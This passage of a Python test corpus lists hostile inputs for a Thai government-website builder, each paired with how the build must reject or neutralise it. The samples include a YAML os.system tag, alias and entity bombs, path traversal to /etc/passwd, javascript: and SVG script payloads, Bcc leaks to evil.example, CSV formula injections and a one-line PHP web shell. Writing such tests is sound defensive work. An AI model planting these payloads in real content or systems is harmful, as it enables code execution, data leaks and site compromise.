# ruff: noqa: E501 -- one case a line, as the corpus is data: adding a case is adding a line
"""The hostile-input corpus: one case a line (model.py says what a case is; harness.py runs it).

Each case writes a few files over a small built project (content/site.yaml only, fiscal year 2568) and says what
the build must do: Fails(where, Thai part, English part) or Builds(nothing dangerous published). Paths in `where`
are as printed, relative to the project folder. Adding a case is adding a line.
"""

from __future__ import annotations

from hostile.harness import PASSWD, SECRET
from hostile.model import Builds, Case, Fails, Fifo, Link, Made, Repeat, Sparse

# ---- pieces the cases are written from --------------------------------------------------------------------------------
O1, O2, O2MD, O12, O18, O19 = (f"content/ita/2568/{name}" for name in ("O1.yaml", "O2.yaml", "O2.md", "O12.yaml", "O18.yaml",
                                                                      "O19.yaml"))
SITE, NEWS, FILES = "content/site.yaml", "content/news/2567-10-15-khao.md", "content/ita/2568/files"
EX = "executives:\n  - name: นายทดสอบ ใจดี\n    position: นายก\n    role: chief\n"
SITE_YAML = ("name_th: องค์การบริหารส่วนตำบลทดสอบ\nname_en: Test SAO\nagency_kind: sao\naddress: 99 หมู่ 1 ตำบลทดสอบ\n"
             "district: เมือง\nprovince: ขอนแก่น\nministry: กระทรวงมหาดไทย\nphones: [\"0 4300 0000\"]\nemail: saraban@test.go.th\n")
PROC = ("months:\n  - month: 2567-10\n    rows:\n      - name: ซื้อกระดาษ\n        budget: 15000\n        source: งบประมาณ\n"
        "        status: completed\n        method: specific\n        median_price: 14380\n        agreed_price: 14380\n"
        "        vendor: ร้านดงเมืองพาณิชย์\n        egp_no: \"67105844132\"\n        contract_date: 2567-10-08\n")
CHANNEL = "channels:\n  - name: อีเมลร้องเรียน\n    type: email\n    value: {}\nconfidentiality: เก็บเป็นความลับ\n"
STATS = "months:\n  - month: 2567-10\n    received: {}\n    finished: 0\n    in_progress: 0\n"
POST = "---\ntitle: ข่าวประชาสัมพันธ์\ndate: 2567-10-15\n---\n"
BOMB = "".join(f"{c}: &{c} [{', '.join(['*' + p] * 9)}]\n" for p, c in zip("abcdefgh", "bcdefghi"))
BOMB = "a: &a [x, x, x, x, x, x, x, x, x]\n" + BOMB
INERT_SVG = ('<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10">'
             '<defs><linearGradient id="g"/></defs><rect width="10" height="10" style="fill:url(#g)"/><use xlink:href="#g"/>'
             '</svg>\n')
SVG = '<svg xmlns="http://www.w3.org/2000/svg">\n{}\n</svg>\n'
NFC, NFD = "caf\u00e9.pdf", "cafe\u0301.pdf"
LOCALE = (("LOCPATH", "{locales}"), ("LC_ALL", "th_TH.TIS-620"), ("LANG", "th_TH.TIS-620"))


def ex(line: str) -> dict:
    """O2 with one more line in its executive."""
    return {O2: EX + line + "\n"}


def photo(name: str, data) -> dict:
    return {O2: EX + f"    photo: files/{name}\n", f"{FILES}/{name}": data}


def proc(field: str, value: str) -> dict:
    """O12 with one field of its row written as `value`."""
    start = PROC.index(f" {field}: ", PROC.index("rows:")) + len(f" {field}: ")
    return {O12: PROC[:start] + value + PROC[PROC.index("\n", start):]}


def site(extra: str) -> dict:
    return {SITE: SITE_YAML + extra}


def post(body: str) -> dict:
    return {NEWS: POST + body}


def template(text: str) -> dict:
    return {"templates/contact.html": text}


def doc(path: str) -> str:
    return f"attachments:\n  - title: เอกสาร\n    file: {path}\n"


ESC = "แม่แบบหน้าเว็บผิดพลาด"
CONTACT = "templates/contact.html"
T1 = f"{CONTACT}:1:1"
CTRL_TH, CTRL_EN = "อักขระควบคุม", "control character"
OUT_TH, OUT_EN = "อยู่นอกโฟลเดอร์ content/", "leads outside the content/ folder"
LINK_TH, LINK_EN = "ทางลัด (symbolic link)", "is a symbolic link to"
TOO_MUCH = "มากเกินไป", "is too large"
TOO_MANY_DIGITS = "มากเกินไป (ไม่เกิน 13 หลักก่อนจุดทศนิยม)", "(at most 13 digits before the decimal point)"
#: What a dangerous Markdown case writes that the site's own pages never hold (they have their own scripts and forms).
HTML_ABSENT = (b"alert(", b"document.cookie", b"javascript:", b"vbscript:", b"msgbox", b"onmouseover", b"tracker.example",
               b"evil.example", b"x.swf", b"PHNjcmlwdD4", b"http-equiv", b"<iframe", b"<object", b"<embed", b"<base ",
               b"@import")

CASES = [
    # ---- YAML: syntax, encodings, sizes, depth, aliases, tags, control characters ----------------------------------
    Case("yaml", "bad indentation", {O2: EX.replace("    role", "   role")}, Fails(f"{O2}:4:4", "รูปแบบ YAML ไม่ถูกต้อง", "YAML syntax error")),
    Case("yaml", "unclosed quote", {O2: EX.replace("นายก\n", '"นายก\n')}, Fails(f"{O2}:3:15", "ไม่ได้ปิด", "never closed")),
    Case("yaml", "tab indentation", {O2: EX.replace("    role", "\trole")}, Fails(f"{O2}:4:1", "แท็บ", "tab character")),
    Case("yaml", "duplicate key", ex("    role: deputy"), Fails(f"{O2}:5:5", "ซ้ำ", "duplicate key 'role'")),
    Case("yaml", "two documents in one file", {O2: EX + "---\n" + EX}, Fails(f"{O2}:5:1", "เอกสาร YAML ชุดที่สอง", "starts a second YAML document")),
    Case("yaml", "undefined alias", ex("    note: *nothing"), Fails(f"{O2}:5:11", "รูปแบบ YAML", "undefined alias")),
    Case("yaml", "alias bomb (billion laughs)", {O2: BOMB}, Fails(f"{O2}:2:8", "มากกว่า 250,000 ค่า", "more than 250,000 values")),
    Case("yaml", "alias bomb in news front matter", {NEWS: "---\n" + BOMB + "---\nข่าว\n"}, Fails(f"{NEWS}:3:8", "มากกว่า 250,000 ค่า", "aliases")),
    Case("yaml", "10,000 levels of [", {O2: "executives: " + "[" * 10000 + "]" * 10000 + "\n"}, Fails(O2 + ":1:", "ลึกเกิน 32 ชั้น", "more than 32 levels")),
    Case("yaml", "10,000 levels of {", {O2: "executives: " + "{a: " * 10000 + "}" * 10000 + "\n"}, Fails(O2 + ":1:", "ลึกเกิน 32 ชั้น", "more than 32 levels")),
    Case("yaml", "200 levels of indentation", {O2: "".join("  " * i + f"k{i}:\n" for i in range(200))}, Fails(f"{O2}:33:65", "ลึกเกิน", "nest more than")),
    Case("yaml", "300,000 list entries (no alias)", {O2: Repeat("  - a\n", 1_900_000, "executives:\n")}, Fails(f"{O2}:249997:5", "มากกว่า 250,000 ค่า", "more than 250,000")),
    Case("yaml", "50 MB file", {O2: Repeat("  - name: ก\n", 50 * 1024 * 1024, "executives:\n")}, Fails(O2, "ใหญ่ 50.0 MB", "more than a YAML file may be (4 MB)")),
    Case("yaml", "a file just over 4 MB", {O12: Repeat(PROC[PROC.index("      - name"):], 4 * 1024 * 1024 + 10, PROC)}, Fails(O12, "ใหญ่ 4.0 MB", "(4 MB)")),
    Case("yaml", "!!python/object/apply tag", ex("    note: !!python/object/apply:os.system [\"touch PWNED\"]"), Fails(f"{O2}:5:11", "แท็ก YAML", "!!python/object/apply:os.system", no_file="PWNED")),
    Case("yaml", "!!python/name tag", ex("    note: !!python/name:os.system"), Fails(f"{O2}:5:11", "แท็ก YAML", "!!python/name:os.system")),
    Case("yaml", "!!binary tag", ex("    note: !!binary aGVsbG8="), Fails(f"{O2}:5:11", "แท็ก YAML", "!!binary")),
    Case("yaml", "a local tag", ex("    note: !secret x"), Fails(f"{O2}:5:11", "แท็ก YAML", "'!secret'")),
    Case("yaml", "a merge key", {O2: "base: &b {position: นายก, role: chief}\nexecutives:\n  - name: ก\n    <<: *b\n"}, Fails(f"{O2}:4:5", "ไม่รู้จักช่อง '<<'", "unknown field '<<'")),
    Case("yaml", "a list as a key", {O2: EX + "? [a, b]\n: c\n"}, Fails(f"{O2}:5:3", "ไม่รู้จักช่อง", "unknown field")),
    Case("yaml", "a NUL byte", {O2: EX.replace("นายก\n", "นา\x00ยก\n")}, Fails(f"{O2}:3:17", CTRL_TH, "control character (NUL, U+0000)")),
    Case("yaml", "a vertical tab pasted from Word", {O2: EX.replace("นายก\n", "นา\x0bยก\n")}, Fails(f"{O2}:3:17", "Shift+Enter", "vertical tab")),
    Case("yaml", "a form feed", {O2: EX.replace("chief", "chief\x0c")}, Fails(f"{O2}:4:16", CTRL_TH, "form feed")),
    Case("yaml", "a C1 control character", {O2: EX.replace("นายก", "นายก\x85")}, Fails(f"{O2}:3:19", CTRL_TH, "U+0085")),
    Case("yaml", "a vertical tab written as \\v", {O2: EX.replace("นายก\n", '"นา\\vยก"\n')}, Fails(f"{O2}:3:15", "ค่านี้มีอักขระควบคุม", "vertical tab")),
    Case("yaml", "a NUL written as \\0", {O2: EX.replace("นายก\n", '"นา\\0ยก"\n')}, Fails(f"{O2}:3:15", "ค่านี้มีอักขระควบคุม", "NUL")),
    Case("yaml", "a lone surrogate written as \\ud800", {O2: EX.replace("นายก\n", '"\\ud800"\n')}, Fails(f"{O2}:3:15", "ค่านี้มีอักขระควบคุม", "U+D800")),
    Case("yaml", "a key with a control character", {O2: EX + '"a\\x01b": 1\n'}, Fails(f"{O2}:5:1", "ค่านี้มีอักขระควบคุม", "U+0001")),
    Case("yaml", "a byte-order mark at the start", {O2: "\ufeff" + EX}, Builds(present=(("ita/2568/o2.html", "นายทดสอบ".encode()),))),
    Case("yaml", "a byte-order mark in the middle", {O2: EX + "\ufeffexecutives_note: x\n"}, Fails(f"{O2}:5:1", "BOM", "byte-order mark")),
    Case("yaml", "two byte-order marks at the start", {O2: "\ufeff\ufeff" + EX}, Fails(f"{O2}:1:1", "BOM", "byte-order mark")),
    Case("yaml", "saved as UTF-16", {O2: EX.encode("utf-16")}, Fails(O2, "UTF-16", "saved as Unicode (UTF-16)")),
    Case("yaml", "saved as UTF-16 big-endian", {O2: b"\xfe\xff" + EX.encode("utf-16-be")}, Fails(O2, "UTF-16", "UTF-16")),
    Case("yaml", "saved as TIS-620", {O2: EX.encode("cp874")}, Fails(f"{O2}:2:1", "ไม่ได้บันทึกเป็น UTF-8", "not saved as UTF-8")),
    Case("yaml", "a PNG named O2.yaml", {O2: Made("png")}, Fails(O2, "ไม่ใช่ไฟล์ข้อความ", "not a text file")),
    Case("yaml", "an empty item file (0 bytes)", {O2: ""}, Fails(O2, "ว่างเปล่า", "this file is empty")),
    Case("yaml", "an item file of blank lines", {O2: "\n  \n\t\n"}, Fails(O2, "ว่างเปล่า", "this file is empty")),
    Case("yaml", "an empty site.yaml", {SITE: ""}, Fails(SITE, "ว่างเปล่า", "this file is empty")),
    Case("yaml", "an empty item body", {O2: EX, O2MD: " \n"}, Fails(O2MD, "ว่างเปล่า", "this file is empty")),
    Case("yaml", "a stub of comments only stays unwritten", {O2: "# executives:\n#   - name: ...\n"}, Builds(present=(("ita/2568/o2.html", "ยังไม่".encode()),))),
    Case("yaml", "Windows line endings", {O2: EX.replace("\n", "\r\n")}, Builds(present=(("ita/2568/o2.html", "นายทดสอบ".encode()),))),
    Case("yaml", "old Mac line endings", {O2: EX.replace("\n", "\r")}, Builds(present=(("ita/2568/o2.html", "นายทดสอบ".encode()),))),
    Case("yaml", "a 1 MB value", {O2: EX.replace("position: นายก", "position: " + "ก" * 350_000)}, Builds()),

    # ---- values: eras, dates, numbers, text where a number goes, URLs and e-mails ---------------------------------
    Case("values", "money 1e309", proc("budget", "1e309"), Fails(f"{O12}:5:17", "ต้องเป็นตัวเลข", "must be a number, got '1e309'")),
    Case("values", "money 1e999999999", proc("budget", "1e999999999"), Fails(f"{O12}:5:17", "ต้องเป็นตัวเลข", "must be a number")),
    Case("values", "money of 5,000 digits", proc("budget", "9" * 5000), Fails(f"{O12}:5:17", *TOO_MANY_DIGITS)),
    Case("values", "money of 5,000 leading zeros", proc("budget", "0" * 5000 + "15000"), Builds(present=(("ita/2568/o12-procurement-2568.csv", b"15000.00"),))),
    Case("values", "money in scientific notation", proc("budget", "1.5E+04"), Fails(f"{O12}:5:17", "ต้องเป็นตัวเลข", "must be a number, got '1.5E+04'")),
    Case("values", "money of 10 trillion", proc("agreed_price", "10,000,000,000,000"), Fails(f"{O12}:10:23", *TOO_MANY_DIGITS)),
    Case("values", "money NaN", proc("budget", "NaN"), Fails(f"{O12}:5:17", "ต้องเป็นตัวเลข", "must be a number")),
    Case("values", "money Infinity", proc("budget", "-Infinity"), Fails(f"{O12}:5:17", "ต้องเป็นตัวเลข", "must be a number")),
    Case("values", "money in words", proc("budget", "หนึ่งหมื่นห้าพัน"), Fails(f"{O12}:5:17", "ต้องเป็นตัวเลข", "must be a number")),
    Case("values", "money negative", proc("budget", "-15000"), Fails(f"{O12}:5:17", "ต้องเป็นตัวเลข", "must be a number")),
    Case("values", "a phone with letters", ex("    phone: โทรหาได้ทุกวัน"), Fails(f"{O2}:5:12", "หมายเลขโทรศัพท์", "must be a phone number")),
    Case("values", "true written yes", {O12: PROC.replace("    rows:", "    no_procurement: yes\n    rows:")}, Fails(f"{O12}:3:21", "true หรือ false", "must be true or false")),
    Case("values", "a plain e-mail and an https URL on Thai domains", site("base_url: https://ดงเมือง.ไทย/\n"), Builds(present=(("index.html", b"mailto:saraban@test.go.th"),))),
    Case("values", "a date in Thai digits", proc("contract_date", "๒๕๖๗-๑๐-๐๘"), Builds(present=(("ita/2568/o12-months.json", b"2567-10-08"),))),
    Case("values", "money in Thai digits", proc("budget", "๑๕,๐๐๐"), Builds(present=(("ita/2568/o12-procurement-2568.csv", b"15000.00"),))),
    Case("values", "a count of 5,000 digits", {O19: STATS.format("9" * 5000)}, Fails(f"{O19}:3:15", "มากเกินไป (ไม่เกิน 9 หลัก)", "(at most 9 digits)")),
    Case("values", "a count of a billion", {O19: STATS.format("1,000,000,000")}, Fails(f"{O19}:3:15", *TOO_MUCH)),
    Case("values", "text where a count goes", {O19: STATS.format("หลายเรื่อง")}, Fails(f"{O19}:3:15", "จำนวนเต็ม", "whole number")),
    Case("values", "a Christian-era date", proc("contract_date", "2024-10-08"), Fails(f"{O12}:13:24", "ปี ค.ศ.", "Christian-era")),
    Case("values", "30 February", proc("contract_date", "2568-02-30"), Fails(f"{O12}:13:24", "ไม่มีวันที่", "not a real date")),
    Case("values", "month 13", proc("contract_date", "2568-13-01"), Fails(f"{O12}:13:24", "ไม่มีวันที่", "not a real date")),
    Case("values", "year 9999", proc("contract_date", "9999-01-01"), Fails(f"{O12}:13:24", "มากเกินไป", "too large")),
    Case("values", "a date typo: 2650", proc("contract_date", "2650-10-08"), Builds(warns=(f"{O12}:13:24", "เกินหนึ่งปี"))),
    Case("values", "a date before 2475", proc("contract_date", "2405-10-08"), Builds(warns=(f"{O12}:13:24", "เก่ากว่า พ.ศ. 2475"))),
    Case("values", "a month typo: 2650", {O12: PROC.replace("month: 2567-10", "month: 2650-10").replace("2567-10-08", "2567-10-09")}, Builds(warns=(f"{O12}:2:12", "เกินหนึ่งปี"))),
    Case("values", "an e-mail with a hidden Bcc", {SITE: SITE_YAML.replace("saraban@test.go.th", "saraban@test.go.th?bcc=spy@evil.example")}, Fails(f"{SITE}:9:8", "ต้องเป็นอีเมล", "must be an e-mail address")),
    Case("values", "an e-mail with an encoded second address", ex("    email: a@test.go.th?cc=spy%40evil.example"), Fails(f"{O2}:5:12", "ต้องเป็นอีเมล", "e-mail address")),
    Case("values", "an e-mail written with mailto:", ex("    email: mailto:a@test.go.th"), Fails(f"{O2}:5:12", "ต้องเป็นอีเมล", "e-mail address")),
    Case("values", "an e-mail with a newline", ex('    email: "a@test.go.th\\nBcc: spy@evil.example"'), Fails(f"{O2}:5:12", "ต้องเป็นอีเมล", "e-mail address")),
    Case("values", "a complaint channel's address with a Bcc", {O18: CHANNEL.format("ร้องเรียน@test.go.th?bcc=spy@evil.example")}, Builds(absent=("mailto:ร้องเรียน".encode(), b"mailto:spy"), present=(("ita/2568/o18.html", b"?bcc=spy@evil.example"),))),
    Case("values", "a javascript: URL", site("base_url: javascript:alert(1)\n"), Fails(f"{SITE}:10:11", "ต้องเป็นลิงก์เต็ม", "full web address")),
    Case("values", "a data: URL", site("base_url: data:text/html,<script>alert(1)</script>\n"), Fails(f"{SITE}:10:11", "ลิงก์เต็ม", "full web address")),
    Case("values", "a file: URL", site("base_url: file:///etc/passwd\n"), Fails(f"{SITE}:10:11", "ลิงก์เต็ม", "full web address")),
    Case("values", "a URL with a user before the host", site("base_url: https://www.test.go.th@evil.example/\n"), Fails(f"{SITE}:10:11", "ลิงก์เต็ม", "full web address")),
    Case("values", "a URL breaking out of its attribute", site("base_url: 'https://www.test.go.th/\" onmouseover=\"alert(1)'\n"), Fails(f"{SITE}:10:11", "ลิงก์เต็ม", "full web address")),
    Case("values", "a URL without a scheme", site("base_url: //evil.example/\n"), Fails(f"{SITE}:10:11", "ลิงก์เต็ม", "full web address")),
    Case("values", "a formula in a procurement vendor", proc("vendor", "'=HYPERLINK(\"http://evil.example\",\"ร้านดงเมือง\")'"), Builds(absent=(b"<f>", b"<f "), present=(("ita/2568/o12-procurement-2568.csv", b"'=HYPERLINK"),))),
    Case("values", "a +cmd formula in a procurement name", proc("name", "\"+cmd|' /C calc'!A0\""), Builds(absent=(b"<f>",), present=(("ita/2568/o12-procurement-2568.csv", b"'+cmd|"),))),
    Case("values", "a -2+3 formula in a vendor", proc("vendor", "-2+3+cmd"), Builds(absent=(b"<f>",), present=(("ita/2568/o12-procurement-2568.csv", b"'-2+3+cmd"),))),
    Case("values", "an @SUM formula in a vendor", proc("vendor", "\"@SUM(1+1)\""), Builds(absent=(b"<f>",), present=(("ita/2568/o12-procurement-2568.csv", b"'@SUM(1+1)"),))),
    Case("values", "a formula in an open-data table", {O18: CHANNEL.format("saraban@test.go.th").replace("อีเมลร้องเรียน", "'=1+2'")}, Builds(present=(("ita/2568/o18-channels.csv", b"'=1+2"),))),
    Case("values", "a formula in a สขร.1 contract number", {O12: PROC + "        contract_no: '=1+2'\n"}, Builds(absent=(b"<f>",))),

    # ---- files and paths: links, loops, devices, traversal, sizes, damaged and crafted files, names ----------------
    Case("files", "a link to /etc/passwd among the attachments", {f"{FILES}/passwd.txt": Link("/etc/passwd")}, Fails(f"{FILES}/passwd.txt", LINK_TH, LINK_EN + " '/etc/passwd'")),
    Case("files", "a link to a file outside the project", {f"{FILES}/secret.txt": Link("{outside}/secret.txt")}, Fails(f"{FILES}/secret.txt", LINK_TH, LINK_EN)),
    Case("files", "a link to a folder outside the project", {f"{FILES}/shared": Link("{outside}/folder")}, Fails(f"{FILES}/shared", "โฟลเดอร์นี้เป็นทางลัด", "this folder is a symbolic link")),
    Case("files", "an attachment path naming a link", {O2: EX + doc("files/secret.pdf"), f"{FILES}/secret.pdf": Link("{outside}/folder/secret.pdf")}, Fails(f"{FILES}/secret.pdf", LINK_TH, LINK_EN)),
    Case("files", "an attachment path through a linked folder", {O2: EX + doc("files/shared/secret.pdf"), f"{FILES}/shared": Link("{outside}/folder")}, Fails(f"{FILES}/shared", LINK_TH, LINK_EN)),
    Case("files", "a link to a folder inside content", {f"{FILES}/a.pdf": Made("pdf"), f"{FILES}/again": Link("../files")}, Fails(f"{FILES}/again", LINK_TH, LINK_EN)),
    Case("files", "a link to the project's ancestor", {"content/up": Link("..")}, Fails("content/up", LINK_TH, LINK_EN)),
    Case("files", "a loop of two links", {f"{FILES}/a.pdf": Link("b.pdf"), f"{FILES}/b.pdf": Link("a.pdf")}, Fails(f"{FILES}/a.pdf", LINK_TH, LINK_EN)),
    Case("files", "a link to itself", {f"{FILES}/self": Link("self")}, Fails(f"{FILES}/self", LINK_TH, LINK_EN)),
    Case("files", "a dangling link", {f"{FILES}/gone.pdf": Link("nowhere.pdf")}, Fails(f"{FILES}/gone.pdf", LINK_TH, LINK_EN)),
    Case("files", "site.yaml linked to another agency's", {SITE: Link("{outside}/site.yaml")}, Fails(SITE, LINK_TH, LINK_EN), remove=(SITE,)),
    Case("files", "an item file linked to /etc/passwd", {O2: Link("/etc/passwd")}, Fails(O2, LINK_TH, LINK_EN)),
    Case("files", "a news post linked outside", {NEWS: Link("{outside}/secret.txt")}, Fails(NEWS, LINK_TH, LINK_EN)),
    Case("files", "a link to /dev/zero", {f"{FILES}/zero.pdf": Link("/dev/zero")}, Fails(f"{FILES}/zero.pdf", LINK_TH, LINK_EN)),
    Case("files", "a named pipe among the attachments", {f"{FILES}/pipe.pdf": Fifo()}, Fails(f"{FILES}/pipe.pdf", "ท่อข้อมูล", "named pipe (FIFO)")),
    Case("files", "a named pipe as an item file", {O2: Fifo()}, Fails(O2, "ท่อข้อมูล", "named pipe")),
    Case("files", "a path leading out with ..", {O2: EX + doc("../../../../etc/passwd")}, Fails(f"{O2}:7:11", OUT_TH, OUT_EN)),
    Case("files", "an absolute path", {O2: EX + doc("/etc/passwd")}, Fails(f"{O2}:7:11", OUT_TH, OUT_EN)),
    Case("files", "a Windows drive path", {O2: EX + doc("C:\\Windows\\win.ini")}, Fails(f"{O2}:7:11", OUT_TH, OUT_EN)),
    Case("files", "a Windows network path", {O2: EX + doc("\\\\server\\share\\secret.pdf")}, Fails(f"{O2}:7:11", OUT_TH, OUT_EN)),
    Case("files", "a path with backslashes that stays inside", {O2: EX + doc("files\\o2\\a.pdf"), f"{FILES}/o2/a.pdf": Made("pdf")}, Builds(present=(("ita/2568/files/o2/a.pdf", b"%PDF"),))),
    Case("files", "a 60 MB attachment", {O2: EX + doc("files/big.pdf"), f"{FILES}/big.pdf": Sparse(60 * 1024 * 1024)}, Fails(f"{FILES}/big.pdf", "ใหญ่ 60.0 MB", "(50 MB)")),
    Case("files", "a 4 GB file nobody names", {f"{FILES}/huge.zip": Sparse(4 * 1024 ** 3, b"PK")}, Fails(f"{FILES}/huge.zip", "ใหญ่ 4,096.0 MB", "more than a published file may be")),
    Case("files", "an empty attachment", {O2: EX + doc("files/empty.pdf"), f"{FILES}/empty.pdf": b""}, Fails(f"{FILES}/empty.pdf", "ว่างเปล่า (0 ไบต์)", "empty (0 bytes)")),
    Case("files", "a damaged PDF", {O2: EX + doc("files/bad.pdf"), f"{FILES}/bad.pdf": b"%PDF-1.4\ngarbage\n"}, Fails(f"{FILES}/bad.pdf", "เปิดไฟล์ PDF นี้ไม่ได้", "cannot be opened")),
    Case("files", "a truncated PDF", {O2: EX + doc("files/cut.pdf"), f"{FILES}/cut.pdf": Made("truncated", ("pdf",))}, Fails(f"{FILES}/cut.pdf", "เปิดไฟล์ PDF นี้ไม่ได้", "cannot be opened")),
    Case("files", "a PDF that needs a password", {O2: EX + doc("files/locked.pdf"), f"{FILES}/locked.pdf": Made("pdf", (1, "secret"))}, Fails(f"{FILES}/locked.pdf", "รหัสผ่าน", "asks for a password")),
    Case("files", "a PDF with only an owner password", {O2: EX + doc("files/owner.pdf"), f"{FILES}/owner.pdf": Made("pdf", (2, "", "owner"))}, Builds(present=(("ita/2568/o2.html", "2 หน้า".encode()),))),
    Case("files", "a PDF declaring a million pages", {O2: EX + doc("files/many.pdf"), f"{FILES}/many.pdf": Made("pdf_declared_pages", (1_000_000,))}, Fails(f"{FILES}/many.pdf", "มากกว่า 3,000 หน้า", "more than 3,000 pages")),
    Case("files", "a PDF of 3,001 pages", {O2: EX + doc("files/thick.pdf"), f"{FILES}/thick.pdf": Made("pdf", (3001,))}, Fails(f"{FILES}/thick.pdf", "มากกว่า 3,000 หน้า", "more than 3,000 pages")),
    Case("files", "a PDF whose page tree loops", {O2: EX + doc("files/loop.pdf"), f"{FILES}/loop.pdf": Made("pdf_page_loop")}, Fails(f"{FILES}/loop.pdf", "เปิดไฟล์ PDF นี้ไม่ได้", "cannot be opened")),
    Case("files", "a 100-megapixel PNG bomb", photo("bomb.png", Made("png_bomb", (10_000, 10_000))), Fails(f"{FILES}/bomb.png", "มากกว่า 50,000,000 พิกเซล", "(10,000 × 10,000)")),
    Case("files", "a PNG claiming 4 gigapixels", photo("claim.png", Made("png_header", (65_000, 65_000))), Fails(f"{FILES}/claim.png", "พิกเซล", "more than 50,000,000 pixels")),
    Case("files", "a GIF claiming 4 gigapixels", photo("claim.gif", Made("gif_header", (65_535, 65_535))), Fails(f"{FILES}/claim.gif", "พิกเซล", "more than 50,000,000 pixels")),
    Case("files", "a bomb nobody names", {f"{FILES}/bomb.png": Made("png_bomb", (10_000, 10_000))}, Builds()),
    Case("files", "a truncated PNG", photo("cut.png", Made("truncated", ("png",))), Fails(f"{FILES}/cut.png", "เปิดไฟล์ ภาพ PNG นี้ไม่ได้", "cannot be opened")),
    Case("files", "a JPEG named .png", photo("photo.png", Made("jpeg")), Builds(present=(("ita/2568/files/photo.png", b"\xff\xd8"),))),
    Case("files", "PostScript named .jpg (never given to Ghostscript)", photo("eps.jpg", Made("eps")), Fails(f"{FILES}/eps.jpg", "เปิดไฟล์ ภาพ JPEG นี้ไม่ได้", "cannot be opened")),
    Case("files", "an SVG with a script", {f"{FILES}/chart.svg": SVG.format("<script>alert(1)</script>")}, Fails(f"{FILES}/chart.svg:2:", "แท็ก <script>", "holds a <script> element")),
    Case("files", "an SVG with a prefixed script", {f"{FILES}/chart.svg": '<s:svg xmlns:s="http://www.w3.org/2000/svg">\n<s:script>alert(1)</s:script></s:svg>'}, Fails(f"{FILES}/chart.svg:2:", "แท็ก <script>", "<script>")),
    Case("files", "an SVG with onload", {f"{FILES}/chart.svg": SVG.format('<rect onload="alert(1)"/>')}, Fails(f"{FILES}/chart.svg:2:", "คำสั่ง onload=", "event handler (onload=)")),
    Case("files", "an SVG with an encoded javascript: link", {f"{FILES}/chart.svg": SVG.format('<a href="&#106;avascript:alert(1)"><text>x</text></a>')}, Fails(f"{FILES}/chart.svg:2:", "ลิงก์ไปยัง 'javascript:", "a link to 'javascript:")),
    Case("files", "an SVG loading a tracker", {f"{FILES}/chart.svg": SVG.format('<image href="http://tracker.example/p.gif"/>')}, Fails(f"{FILES}/chart.svg:2:", "ลิงก์ไปยัง", "tracker.example")),
    Case("files", "an SVG with HTML inside", {f"{FILES}/chart.svg": SVG.format('<foreignObject><p xmlns="http://www.w3.org/1999/xhtml">x</p></foreignObject>')}, Fails(f"{FILES}/chart.svg:2:", "foreignobject", "<foreignobject>")),
    Case("files", "an SVG with a CSS import", {f"{FILES}/chart.svg": SVG.format("<style>@import url(http://tracker.example/a.css);</style>")}, Fails(f"{FILES}/chart.svg:2:", "style", "a style that loads")),
    Case("files", "an SVG with an xml-stylesheet", {f"{FILES}/chart.svg": '<?xml-stylesheet href="http://tracker.example/x.xsl" type="text/xsl"?>\n<svg xmlns="http://www.w3.org/2000/svg"/>'}, Fails(f"{FILES}/chart.svg:1:", "xml-stylesheet", "instruction")),
    Case("files", "an SVG entity bomb", {f"{FILES}/chart.svg": "<!DOCTYPE s [" + "".join(f'<!ENTITY {c} "{("&" + p + ";") * 10}">' for p, c in zip("abcdefgh", "bcdefghi")).replace("&a;", "aaaaaaaaaa") + ']><svg xmlns="http://www.w3.org/2000/svg"><text>&i;</text></svg>'}, Fails(f"{FILES}/chart.svg", "เปิดไฟล์ ภาพ SVG นี้ไม่ได้", "not well-formed XML")),
    Case("files", "an inert SVG as the logo", {**site("logo: images/logo.svg\n"), "content/images/logo.svg": INERT_SVG}, Builds(present=(("images/logo.svg", b"linearGradient"),))),
    Case("files", "a saved web page with a tracker", {f"{FILES}/page.html": '<script src="http://tracker.example/t.js"></script>', f"{FILES}/page_files/t.js": "track()"}, Fails(f"{FILES}/page.html", "เผยแพร่ไฟล์ชนิด .html ไม่ได้", ".html files are not published")),
    Case("files", "a PHP file", {f"{FILES}/shell.php": "<?php system($_GET['c']); ?>"}, Fails(f"{FILES}/shell.php", ".php", "web server can run")),
    Case("files", "an IIS web.config", {"content/web.config": "<configuration/>"}, Fails("content/web.config", ".config", "are not published")),
    Case("files", "an .htaccess is never published", {"content/.htaccess": "Options +ExecCGI\n"}, Builds(not_published=(".htaccess",))),
    Case("files", "a program", {f"{FILES}/setup.exe": b"MZ\x90\x00"}, Fails(f"{FILES}/setup.exe", ".exe", "are not published")),
    Case("files", "a Windows shortcut", {f"{FILES}/report.pdf.lnk": b"L\x00\x00\x00"}, Fails(f"{FILES}/report.pdf.lnk", "ทางลัด (shortcut)", "Windows shortcut")),
    Case("files", "a file without an extension", {f"{FILES}/README": "x"}, Fails(f"{FILES}/README", "ไม่มีนามสกุล", "no extension")),
    Case("files", "content named index.html", {"content/index.html": "<h1>x</h1>"}, Fails("content/index.html", ".html", "not published")),
    Case("files", "content named ita/2568/o12.html", {"content/ita/2568/o12.html": "<h1>x</h1>"}, Fails("content/ita/2568/o12.html", ".html", "not published")),
    Case("files", "content named sw.js", {"content/sw.js": "self.onfetch=null"}, Fails("content/sw.js", ".js", "not published")),
    Case("files", "content named robots.txt", {"content/robots.txt": "Disallow: /\n"}, Fails("content/robots.txt", "แทนที่ 'robots.txt'", "would replace 'robots.txt'")),
    Case("files", "content at the offline download's list's path", {"content/offline/site.json": '{"files": ["../../etc/passwd"]}'}, Fails("content/offline/site.json", "ชนิด '.json' ไม่ได้", "'.json' files are not published")),
    Case("files", "content named like a generated table", {O12: PROC, "content/ita/2568/o12-procurement-2568.csv": "a,b\n"}, Fails("content/ita/2568/o12-procurement-2568.csv", "แทนที่", "which the build makes")),
    Case("files", "content in the templates' static folder", {"content/static/logo.png": Made("png")}, Fails("content/static/logo.png", "แทนที่ 'static/logo.png'", "would replace")),
    Case("files", "a news post named index", {"content/news/index.md": POST + "x\n"}, Fails("content/news/index.md", "แทนที่ 'news/index.html'", "would replace 'news/index.html'")),
    Case("files", "two attachments differing in case", {f"{FILES}/Report.pdf": Made("pdf"), f"{FILES}/report.pdf": Made("pdf")}, Fails(f"{FILES}/report.pdf", "ตัวพิมพ์เล็กใหญ่", "differ only in upper and lower case")),
    Case("files", "two attachments differing in Unicode form", {f"{FILES}/{NFC}": Made("pdf"), f"{FILES}/{NFD}": Made("pdf")}, Fails(f"{FILES}/{NFC}", "รหัสอักขระ", "Unicode form")),
